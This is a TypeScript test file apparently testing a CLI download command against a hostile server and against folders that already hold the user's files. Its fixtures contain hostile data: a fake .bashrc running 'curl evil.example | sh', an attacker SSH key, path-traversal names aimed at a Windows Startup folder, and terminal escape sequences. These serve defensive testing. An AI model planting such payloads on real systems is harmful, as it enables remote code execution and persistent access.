import { existsSync } from 'node:fs';
import { mkdir, mkdtemp, readdir, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import { filerunnerProcess } from './cli-fixtures';
import { scriptedServer, type ScriptedMember } from './scripted-server';

// `filerunner receive` against a server that sends what the real one never would, or into a
// folder that already holds the user's own files: it writes nothing outside its folder, over
// nothing it did not write, through no link, and ends with a message, never a stack.

vi.setConfig({ testTimeout: 60_000, hookTimeout: 60_000 });

const TOKEN = 'dl-token-9f8e7d6c5b4a39281706f5e4d3c2b1a0';
const SLUG = 'hostile01';

let dataDir: string;
const servers: { close(): Promise<void> }[] = [];
beforeAll(async () => {
  dataDir = await mkdtemp(path.join(tmpdir(), 'fr-cli-receive-hostile-'));
});
afterEach(async () => {
  await Promise.all(servers.splice(0).map((server) => server.close()));
});
afterAll(async () => {
  if (dataDir) await rm(dataDir, { recursive: true, force: true });
});

let folders = 0;
async function newFolder(name: string): Promise<string> {
  const folder = path.join(dataDir, `${folders++}-${name}`);
  await mkdir(folder, { recursive: true });
  return folder;
}

async function serving(name: string, members: ScriptedMember[]) {
  const server = await scriptedServer({ name, members, token: TOKEN });
  servers.push(server);
  return server;
}

/** `filerunner receive <slug> <args>` by API key against `origin`, run in `cwd`. */
function receive(origin: string, args: string[], cwd: string, stateHome?: string) {
  return filerunnerProcess(
    ['receive', SLUG, ...args],
    {
      FILERUNNER_URL: origin,
      FILERUNNER_API_KEY: 'fr_scripted',
      XDG_STATE_HOME: stateHome ?? path.join(dataDir, 'state'),
    },
    cwd,
  );
}

const homeFiles: ScriptedMember[] = [
  { path: '.bashrc', text: 'curl evil.example | sh\n' },
  { path: '.ssh/authorized_keys', text: 'ssh-ed25519 AAAA attacker\n' },
  { path: 'notes.txt', text: 'hello\n' },
];

async function aHomeFolder(): Promise<string> {
  const home = await newFolder('home');
  await writeFile(path.join(home, '.bashrc'), 'alias ll="ls -l"\n');
  await mkdir(path.join(home, '.ssh'));
  await writeFile(path.join(home, '.ssh/authorized_keys'), 'ssh-ed25519 AAAA mine\n');
  return home;
}

describe('filerunner receive into a folder holding the user’s files', () => {
  it('receives into a new folder named after the package, never into the current one', async () => {
    const { origin } = await serving('Ep 104: conform', homeFiles);
    const home = await aHomeFolder();
    const first = await receive(origin, [], home).done;
    expect(first.stderr).toContain('Received 3 files, each verified.');
    expect(first.code, first.stderr).toBe(0);
    // ':' has no place in a folder name on Windows: the folder's name is made safe.
    const folder = path.join(home, 'Ep 104_ conform');
    expect(await readFile(path.join(folder, '.bashrc'), 'utf8')).toBe('curl evil.example | sh\n');
    expect(await readFile(path.join(home, '.bashrc'), 'utf8')).toBe('alias ll="ls -l"\n');

    // The finished folder is not taken again: the next run makes its own.
    const second = await receive(origin, [], home).done;
    expect(second.code, second.stderr).toBe(0);
    expect((await readdir(home)).sort()).toEqual([
      '.bashrc',
      '.ssh',
      'Ep 104_ conform',
      'Ep 104_ conform (2)',
    ]);
    expect(await readFile(path.join(home, '.ssh/authorized_keys'), 'utf8')).toBe(
      'ssh-ed25519 AAAA mine\n',
    );
  });

  it('replaces nothing it did not write, lists what is in the way, and --overwrite replaces it', async () => {
    const { origin } = await serving('Dotfiles', homeFiles);
    const home = await aHomeFolder();
    const refused = await receive(origin, ['--out', home], home).done;
    expect(refused.code).toBe(5);
    expect(refused.stderr).toContain(`Nothing was received: ${home} already holds`);
    expect(refused.stderr).toContain('files filerunner did not write (--overwrite replaces them):');
    expect(refused.stderr).toContain('  ".bashrc"\n  ".ssh/authorized_keys"\n');
    expect(await readFile(path.join(home, '.bashrc'), 'utf8')).toBe('alias ll="ls -l"\n');
    expect((await readdir(home)).sort()).toEqual(['.bashrc', '.ssh']);
    expect(await readdir(path.join(home, '.ssh'))).toEqual(['authorized_keys']);

    const replaced = await receive(origin, ['--out', home, '--overwrite'], home).done;
    expect(replaced.code, replaced.stderr).toBe(0);
    expect(await readFile(path.join(home, '.bashrc'), 'utf8')).toBe('curl evil.example | sh\n');
    expect(await readFile(path.join(home, 'notes.txt'), 'utf8')).toBe('hello\n');
  });

  it('never writes through a symbolic link already in the folder, --overwrite or not', async () => {
    const { origin } = await serving('Keys', homeFiles);
    const out = await newFolder('linked');
    const elsewhere = await newFolder('real-ssh');
    await writeFile(path.join(elsewhere, 'authorized_keys'), 'ssh-ed25519 AAAA mine\n');
    await symlink(elsewhere, path.join(out, '.ssh'));
    for (const args of [[], ['--overwrite']]) {
      const run = await receive(origin, ['--out', out, ...args], out).done;
      expect(run.code).toBe(5);
      expect(run.stderr).toContain('symbolic links, which filerunner never writes through:');
      expect(run.stderr).toContain('  ".ssh/authorized_keys"');
    }
    expect(await readdir(elsewhere)).toEqual(['authorized_keys']);
    expect(await readFile(path.join(elsewhere, 'authorized_keys'), 'utf8')).toBe(
      'ssh-ed25519 AAAA mine\n',
    );
    expect(await readdir(out)).toEqual(['.ssh']);
  });
});

describe('filerunner receive from a hostile server', () => {
  it('refuses backslash, drive and reserved names, writing nothing anywhere', async () => {
    const { origin } = await serving('Startup', [
      { path: 'readme.txt', text: 'hi' },
      { path: '..\\..\\AppData\\Roaming\\Startup\\run.bat', text: 'evil' },
      { path: 'C:\\Windows\\evil.dll', text: 'evil' },
      { path: 'con.txt', text: 'evil' },
      { path: 'NUL', text: 'evil' },
      { path: 'dots...', text: 'evil' },
    ]);
    const cwd = await newFolder('cwd');
    const run = await receive(origin, [], cwd).done;
    expect(run.code).toBe(5);
    expect(run.stderr).toBe(
      'filerunner: The package was not received: The package cannot be unpacked safely, so ' +
        'nothing was written: names that would leave the folder or cannot exist on every ' +
        'system: "..\\\\..\\\\AppData\\\\Roaming\\\\Startup\\\\run.bat", "C:\\\\Windows\\\\evil.dll", ' +
        '"con.txt", "NUL", "dots...".\n',
    );
    expect(await readdir(cwd)).toEqual([]);
    expect(await readdir(path.dirname(cwd))).not.toContain('AppData');
  });

  it('names its folder plainly inside the current one, whatever the package is called', async () => {
    const home = await aHomeFolder();
    for (const name of ['../x', '.ssh', '.config/autostart']) {
      const { origin } = await serving(name, [{ path: 'run.sh', text: 'evil' }]);
      const run = await receive(origin, [], home).done;
      expect(run.code, run.stderr).toBe(0);
    }
    expect((await readdir(home)).sort()).toEqual([
      '.bashrc',
      '.ssh',
      '_x',
      'config_autostart',
      'ssh',
    ]);
    for (const folder of ['_x', 'ssh', 'config_autostart']) {
      expect(await readFile(path.join(home, folder, 'run.sh'), 'utf8')).toBe('evil');
    }
    expect(await readdir(path.join(home, '.ssh'))).toEqual(['authorized_keys']);
    expect(await readdir(path.dirname(home))).not.toContain('x');
  });

  it('prints the server’s names quoted, so they cannot rewrite the terminal', async () => {
    const { origin } = await serving('Ep\u001b]0;pwned\u0007\u001b[2J', [
      { path: 'a.txt', text: 'a' },
    ]);
    const cwd = await newFolder('terminal');
    const run = await receive(origin, [], cwd).done;
    expect(run.code, run.stderr).toBe(0);
    expect(run.stderr).not.toContain('\u001b');
    expect(run.stderr).not.toContain('\u0007');
    expect(run.stderr).toContain('Receiving "Ep\\u001b]0;pwned\\u0007\\u001b[2J.tar"');
  });

  it('refuses a list naming one file twice, in any case, before writing anything', async () => {
    const { origin } = await serving('Twice', [
      { path: 'shot.exr', text: 'first' },
      { path: 'shot.exr', text: 'second' },
      { path: 'Notes.TXT', text: 'a' },
      { path: 'notes.txt', text: 'b' },
    ]);
    const cwd = await newFolder('twice');
    const run = await receive(origin, [], cwd).done;
    expect(run.code).toBe(5);
    expect(run.stderr).toContain('names given twice: "shot.exr", "notes.txt".');
    expect(run.stderr.trim().split('\n')).toHaveLength(1);
    expect(await readdir(cwd)).toEqual([]);
  });

  it('ends on a one-line message, not a stack, for a name no tar can hold', async () => {
    const { origin } = await serving('Broken', [{ path: '../../escaped', text: 'x' }]);
    const cwd = await newFolder('broken');
    for (const args of [[], ['--tar']]) {
      const run = await receive(origin, args, cwd).done;
      expect(run.code).toBe(5);
      expect(run.stderr).toMatch(
        /^filerunner: The package was not received: .*"\.\.\/\.\.\/escaped"/,
      );
      expect(run.stderr).not.toMatch(/RangeError|\n\s+at /);
      expect(run.stderr.trim().split('\n')).toHaveLength(1);
    }
    expect(await readdir(cwd)).toEqual([]);
  });

  it('never prints the download token, even when the download cannot start', async () => {
    const server = await serving('Unreachable', homeFiles);
    server.answerDownloads('drop');
    const cwd = await newFolder('dropped');
    const run = await receive(server.origin, ['--out', path.join(cwd, 'out')], cwd).done;
    expect(run.code).toBe(5);
    expect(run.stderr).toContain('The download could not start: HEAD');
    expect(run.stderr).toContain('/api/downloads/…/Unreachable.tar');
    expect(run.stderr).not.toContain(TOKEN);
  });

  it('goes back into the same package folder after a crash, and finishes there', async () => {
    const big = 'x'.repeat(2_000_000);
    const server = await serving('Dailies', [
      { path: 'small.txt', text: 'small' },
      { path: 'big.bin', text: big },
    ]);
    const cwd = await newFolder('resume');
    const stateHome = path.join(cwd, '..', `${path.basename(cwd)}-state`);
    server.answerDownloads('stall');
    const first = receive(server.origin, [], cwd, stateHome);
    const host = new URL(server.origin).host.replace(':', '_');
    const ledger = path.join(stateHome, 'filerunner', 'downloads', `${host}.json`);
    for (let waited = 0; waited < 30_000; waited += 100) {
      await new Promise((resolve) => setTimeout(resolve, 100));
      if (existsSync(ledger) && (await readFile(ledger, 'utf8')).includes('ranges')) break;
    }
    first.child.kill('SIGKILL');
    expect((await first.done).signal).toBe('SIGKILL');
    server.answerDownloads('serve');

    const second = await receive(server.origin, [], cwd, stateHome).done;
    expect(second.code, second.stderr).toBe(0);
    expect(await readdir(cwd)).toEqual(['Dailies']);
    expect(await readFile(path.join(cwd, 'Dailies', 'big.bin'), 'utf8')).toBe(big);
  });
});
